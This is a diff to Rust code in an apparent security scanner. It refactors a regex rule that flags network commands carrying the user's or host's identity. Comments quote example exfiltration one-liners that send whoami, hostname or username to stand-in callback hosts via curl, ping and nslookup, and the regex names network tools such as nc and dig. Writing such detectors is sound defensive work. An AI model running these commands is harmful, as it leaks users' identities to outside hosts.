@@ -141,9 +141,6 @@ pub(crate) struct CmdPattern {
 const INTERPRETERS: &str = r"python[0-9.]*w?|py|node|bun|deno|(ba|z|da)?sh|ruby|perl";
 /// Command-line tools that speak HTTP.
 const HTTP_TOOLS: &str = r"curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm";
-/// Command-line tools that send a request (or a DNS query) somewhere.
-const NET_TOOLS: &str =
-    r"curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm|nc|ncat|ping|nslookup|dig|host";
 /// Shell spellings of the user's and host's identity: `$USER`, `${HOSTNAME}`, `%USERNAME%`,
 /// `$(whoami)`, `` `hostname` ``, `$(id)`.
 const HOST_IDENTITY: &str = r"\$\{?(user|username|logname|hostname)\b|%(username|computername|userdomain)%|(\$\(|`)\s*(whoami|hostname|id|uname\s+-a)\s*(\)|`)";
@@ -233,7 +230,8 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
             // Dependency-confusion one-liners: `curl https://x.oast.fun/$(whoami)`,
             // `ping -c1 $HOSTNAME.x.burpcollaborator.net`, `nslookup %USERNAME%.x.dnslog.cn`.
             "EXFIL-SEND-COLLECTED",
-            &format!(r"(?i)\b({NET_TOOLS})\b[^\n]*({HOST_IDENTITY})|({HOST_IDENTITY})[^\n]*\b({NET_TOOLS})\b"),
+            // (Tools that send a request or a DNS query: the HTTP tools and a few more.)
+            &format!(r"(?i)\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b[^\n]*({HOST_IDENTITY})|({HOST_IDENTITY})[^\n]*\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b"),
             "puts the user's or host's identity into a network command",
         ),
         p(
